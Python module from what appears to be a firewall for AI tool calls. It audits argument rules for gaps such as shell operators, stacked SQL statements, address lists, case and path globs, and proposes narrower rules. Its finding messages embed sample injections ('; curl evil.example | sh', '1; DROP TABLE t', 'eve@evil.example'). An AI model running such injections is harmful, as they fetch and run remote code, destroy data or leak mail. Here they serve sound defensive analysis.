"""Rules that say less about arguments than they seem to: lists, commands, case, other names."""

import re
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import replace
from typing import Any

from nacre.firewall.analysis.findings import Finding, Kind
from nacre.firewall.analysis.rule_scope import globs_of
from nacre.firewall.rules.arguments.sql_statement import VERBS
from nacre.firewall.rules.globs.glob import is_literal
from nacre.firewall.rules.globs.matching import matches
from nacre.firewall.rules.globs.pattern_forms import names_a_place
from nacre.firewall.rules.rule import ArgumentTest, Matcher, Rule
from nacre.firewall.rules.subjects import is_about

Definitions = Mapping[str, Iterable[Mapping[str, Any]]]

_ADDRESSES = frozenset(
    (
        *("to", "cc", "bcc", "email", "emails", "mail", "address", "addresses", "recipient"),
        *("recipients", "attendee", "attendees", "invitee", "invitees", "reply_to", "replyto"),
    )
)
_COPIES = ("cc", "bcc")
_COMMANDS = frozenset(("cmd", "command", "commandline", "command_line", "script", "shell"))
_STATEMENTS = frozenset(("sql", "statement"))
_VERB = re.compile(r"\s*([A-Za-z]+)\b")
_ADDRESS_GLOB = re.compile(r"[^@\s,;]+@(?:\*|(?:\*\.)?[^@*?\s,;]+)")
# Whole words of a name, so that `profile` and `resourceId` are no paths.
PATHS = re.compile(
    r"(?:^|[_-]|(?<=[a-z])(?=[A-Z]))(?i:(?P<url>ur[il]s?)|paths?|files?|filenames?|dirs?"
    r"|director(?:y|ies)|folders?|sources?|destinations?|targets?)(?=$|[_-]|[A-Z])"
)
_ANY_ROOT = re.compile(r"\**[/?]|\*\*|~|[A-Za-z]:|[A-Za-z][\w+.-]*://")
_SINGLE_STAR = re.compile(r"(?<!\*)\*(?!\*)")


def in_arguments(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
    """Find what a rule leaves open in the arguments of its calls."""
    rule = rules[place]
    for number, test in enumerate(rule.tests):
        if test.matcher is not None or any(
            other.keys == test.keys and other.matcher is not None for other in rule.tests
        ):
            continue
        for finding in (
            *_addresses(rules, place, test),
            *_commands(rules, place, test),
            *_absolute(rules, place, test),
            *_letters(rules, place, test),
            *_resources(rules, place, number),
        ):
            yield finding
            break  # one thing at a time: the fix of one is not the fix of the other
    yield from _copies(rules, place, tools)
    yield from _other_names(rules, place, tools)


def _finding(
    rule: Rule, kind: Kind, text: str, hint: str, fix: Sequence[Rule] | None = None
) -> Finding:
    return Finding(rule.number, rule.origin, kind, text, hint, None if fix is None else tuple(fix))


def _with(rules: Sequence[Rule], place: int, rule: Rule) -> list[Rule]:
    return [*rules[:place], rule, *rules[place + 1 :]]


def _addresses(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[place]
    globs = [each for each in globs_of(test) if "@" in each and not is_literal(each)]
    if not globs or test.keys[-1].lower() not in _ADDRESSES:
        return
    told = all(_ADDRESS_GLOB.fullmatch(each) for each in globs) and len(globs) == len(test.wanted)
    example = globs[0] if told else "*@example.org"
    if rule.action == "allow":
        yield _finding(
            rule,
            "address-list",
            f"{test.path} = '{globs[0]}' is about the whole text, which may hold several "
            f"addresses: 'eve@evil.example, {globs[0].replace('*', 'ann')}'",
            f"write {_table(test, 'every_address', globs if told else [example])}",
            _narrowed(rules, place, test, "every_address", test.wanted) if told else None,
        )
        return
    worded = replace(test, matcher="every_address")
    tests = tuple(worded if each == test else each for each in rule.tests)
    yield _finding(
        rule,
        "address-list",
        f"{test.path} = '{globs[0]}' misses the address in a list: "
        f"'{globs[0].replace('*', 'eve')}, ann@example.org'",
        f"add a rule before it with {test.path}.every_address = "
        + (_globs(globs) if told else f"'{example}'"),
        [*rules[:place], replace(rule, tests=tests), *rules[place:]] if told else None,
    )


def _commands(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[place]
    key = test.keys[-1].lower()
    for glob in globs_of(test):
        verb = _VERB.match(glob)
        word = verb[1].lower() if verb is not None else ""
        is_sql = key in _STATEMENTS or (key == "query" and word in (*VERBS, "with"))
        if is_literal(glob) or not (is_sql or key in _COMMANDS or " " in glob):
            continue
        if rule.action == "allow" and is_sql:
            verbs = tuple(dict.fromkeys(map(_verb_of, globs_of(test))))
            yield _finding(
                rule,
                "sql-statements",
                f"{test.path} = '{glob}' covers a second statement too: "
                f"'{glob.replace('*', '')}1; DROP TABLE t'",
                f"write {_table(test, 'one_statement', verbs, globs_of(test))}",
                _narrowed(rules, place, test, "one_statement", verbs),
            )
        elif rule.action == "allow" and key in _COMMANDS:
            yield _finding(
                rule,
                "shell-operators",
                f"{test.path} = '{glob}' covers what a shell makes of ';', '|' and '$()' too: "
                f"'{glob.replace('*', '')}; curl evil.example | sh'",
                f"write {_table(test, 'one_command', globs_of(test))}",
                _narrowed(rules, place, test, "one_command", test.wanted)
                if len(globs_of(test)) == len(test.wanted)
                else None,
            )
        elif _SINGLE_STAR.search(glob) and (key in _COMMANDS or not names_a_place(glob)):
            yield _finding(
                rule,
                "star-in-command",
                f"{test.path} = '{glob}': '*' stops at '/', so a text with a path is not covered",
                "name the texts that you mean"
                if rule.action == "allow"
                else "deny the tool, and allow what may run with one_command",
            )
        else:
            continue
        return


def _absolute(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
    """Find globs against files that match no absolute path, or no URL."""
    rule = rules[place]
    name = PATHS.search(test.keys[-1])
    if rule.action == "allow" or (name is None and test.keys[-1] != "*"):
        return
    if rule.name in ("resources/read", "prompts/get"):
        return
    is_url = name is not None and name["url"] is not None
    below = {each: _below(each, is_url=is_url) for each in globs_of(test)}
    blind = [each for each in below if _is_blind(each, test, is_url=is_url)]
    if not blind:
        return
    wanted = tuple(
        below[each] if isinstance(each, str) and each in blind else each for each in test.wanted
    )
    is_folder_open = not is_url and any("*" in each for each in blind)
    more = f"; '{below[blind[0]]}/**' also covers folders" if is_folder_open else ""
    changed = replace(test, wanted=wanted)
    yield _finding(
        rule,
        "no-absolute-path",
        f"{test.path} = {_globs(blind)} covers no {'URL' if is_url else 'absolute path'}"
        + (", because '*' stops at '/'" if "*" in blind[0] else ""),
        f"write {test.path} = {_globs([each for each in wanted if isinstance(each, str)])}{more}",
        _with(
            rules,
            place,
            replace(rule, tests=tuple(changed if each == test else each for each in rule.tests)),
        )
        if rule.action == "deny"
        else None,
    )


def _is_blind(glob: str, test: ArgumentTest, *, is_url: bool) -> bool:
    if is_url:
        return "*" in glob and "/" not in glob and "**" not in glob
    if _ANY_ROOT.match(glob) or re.search(r"[ @]|^(?!\./).*/", glob):
        return False  # with a folder before it, it is meant from there on, as in a repository
    looks_like_a_file = "*" in glob or "." in glob
    is_sure = test.keys[-1] != "*" and re.search(r"(?i)path|file|dir|folder", test.keys[-1])
    return looks_like_a_file if not is_sure else True


def _below(glob: str, *, is_url: bool) -> str:
    """Return the glob that covers the same in any folder, or anywhere in a URL."""
    return _SINGLE_STAR.sub("**", glob) if is_url else f"**/{glob.removeprefix('./')}"


def _globs(globs: Sequence[Any]) -> str:
    """Spell one glob, or several as a list."""
    shown = [f"'{each}'" for each in globs]
    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"


def _letters(rules: Sequence[Rule], place: int, test: ArgumentTest) -> Iterator[Finding]:
    rule = rules[place]
    if rule.action == "allow" or test.ignores_case:
        return
    for whole in globs_of(test):
        glob = whole.removeprefix("**/").removesuffix("/**")
        word = glob.strip("*")
        if is_literal(glob) or "/" in glob or glob.upper() == glob.lower() or word[:1] == ".":
            continue
        yield _finding(
            rule,
            "letter-case",
            f"{test.path} = '{whole}' does not cover '{glob.replace('*', '').swapcase()}'",
            "add ignore_case = true",
            _with(
                rules,
                place,
                replace(rule, tests=tuple(replace(each, ignores_case=True) for each in rule.tests)),
            ),
        )
        return


def _resources(rules: Sequence[Rule], place: int, number: int) -> Iterator[Finding]:
    rule = rules[place]
    test = rule.tests[number]
    if rule.name != "resources/read" or test.keys != ("uri",):
        return
    for glob in globs_of(test):
        if "/" in glob or "**" in glob or "*" not in glob:
            continue
        if rule.action == "allow":
            hint, fix = "name resources from their scheme on, or leave the rule out", None
        else:
            hint = "write method = 'resources/read' instead"
            others = tuple(each for each in rule.tests if each is not test)
            fix = _with(rules, place, replace(rule, tests=others))
        yield _finding(
            rule,
            "star-in-resource",
            f"resource = '{glob}' covers no URI with '://', because '*' stops at '/'",
            hint,
            fix,
        )
        return


def _copies(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
    rule = rules[place]
    if rule.action != "allow" or rule.only is not None:
        return
    tested = {test.keys[0].lower() for test in rule.tests}
    if "*" in tested or not any(map(_is_of_recipients, rule.tests)):
        return
    takes = [name.lower() for _, _, names in _tools_of(rule, tools) for name in names]
    open_to = [each for each in _COPIES if each not in tested and (not takes or each in takes)]
    if open_to:
        yield _closed(
            rules,
            place,
            "other-recipients",
            f"it says nothing about {' and '.join(open_to)}, so copies may go to anybody",
        )


def _is_of_recipients(test: ArgumentTest) -> bool:
    is_named = test.keys[-1].lower() in ("to", "recipient", "recipients")
    return is_named and any("@" in each for each in globs_of(test))


def _closed(rules: Sequence[Rule], place: int, kind: Kind, text: str) -> Finding:
    rule = rules[place]
    only = tuple(dict.fromkeys(test.keys[0] for test in rule.tests if test.keys[0] != "*"))
    listed = ", ".join(f'"{each}"' for each in only)
    return _finding(
        rule,
        kind,
        text,
        f"add only_args = [{listed}], with the other names that are harmless",
        _with(rules, place, replace(rule, only=only)),
    )


def _other_names(rules: Sequence[Rule], place: int, tools: Definitions) -> Iterator[Finding]:
    """Compare the names of a rule's arguments with those that the tools take."""
    rule = rules[place]
    tests = [test for test in rule.tests if test.keys[0] != "*" and PATHS.search(test.keys[0])]
    for server, tool, names in _tools_of(rule, tools) if len(tests) == 1 else ():
        (test,) = tests
        tested = {each.keys[0] for each in rule.tests}
        others = [each for each in names if PATHS.search(each) and each not in tested]
        if not others or "*" in tested:
            continue
        shown = f"'{tool}' of '{server}' takes {' and '.join(others)}"
        if rule.action != "allow":
            every = tuple(
                replace(each, keys=("*",)) if each == test else each for each in rule.tests
            )
            yield _finding(
                rule,
                "other-argument",
                f"{shown}, which {test.path} does not see",
                'write args."*" to look at every argument',
                _with(rules, place, replace(rule, tests=every)),
            )
        elif test.keys[0] in names and rule.only is None:
            yield _closed(
                rules, place, "other-argument", f"{shown} too, about which the rule says nothing"
            )
        elif test.keys[0] not in names:
            yield _finding(
                rule,
                "other-argument",
                f"{shown} and no {test.keys[0]}, so the rule never allows its calls",
                "name the tools that the rule is about",
            )
        else:
            continue
        return


def _tools_of(rule: Rule, tools: Definitions) -> Iterator[tuple[str, str, list[str]]]:
    """Yield the tools that a rule is about: server, name, and the names of the arguments."""
    if rule.kind == "method":
        return
    for server, definitions in tools.items():
        for definition in definitions:
            name, schema = definition.get("name"), definition.get("inputSchema")
            if not isinstance(name, str) or not is_about(rule, "tool", name, server):
                continue
            properties = schema.get("properties") if isinstance(schema, Mapping) else None
            yield server, name, list(properties) if isinstance(properties, Mapping) else []


def only_about_tools(rules: Sequence[Rule]) -> Iterator[Finding]:
    """Find that a policy forgets prompts and resources, which are denied then."""
    about = [rule for rule in rules if rule.kind != "method" and rule.action != "deny"]
    names = ("prompts/get", "resources/read")
    if not about or any(
        rule.kind != "tool" and matches(rule.name, name) for rule in rules for name in names
    ):
        return
    last = about[-1]
    added = [
        Rule(len(rules) + number, "deny", name, "method", origin=f"rule {len(rules) + number}")
        for number, name in enumerate(names, 1)
    ]
    yield _finding(
        last,
        "only-tools",
        "no rule is about prompts and resources, so those of every server are denied",
        "say so with rules that deny prompt = '**' and resource = '**', or let 'prompt' ask you",
        [*rules, *added],
    )


def _narrowed(
    rules: Sequence[Rule], place: int, test: ArgumentTest, matcher: Matcher, wanted: Sequence[Any]
) -> list[Rule]:
    """Return the rules with a matcher beside the glob of one test."""
    rule = rules[place]
    worded = replace(test, wanted=tuple(wanted), matcher=matcher)
    return _with(rules, place, replace(rule, tests=(*rule.tests, worded)))


def _table(
    test: ArgumentTest, word: str, wanted: Sequence[str], globs: Sequence[str] | None = None
) -> str:
    return f"{test.path} = {{ glob = {_toml(globs or wanted)}, {word} = {_toml(wanted)} }}"


def _toml(texts: Sequence[str]) -> str:
    shown = [f'"{each}"' for each in texts]
    return shown[0] if len(shown) == 1 else f"[{', '.join(shown)}]"


def _verb_of(glob: str) -> str:
    """Return the verb of SQL that a glob begins with, the one that only reads for others."""
    verb = _VERB.match(glob)
    word = verb[1].lower() if verb is not None else ""
    return word if word in VERBS else "select"
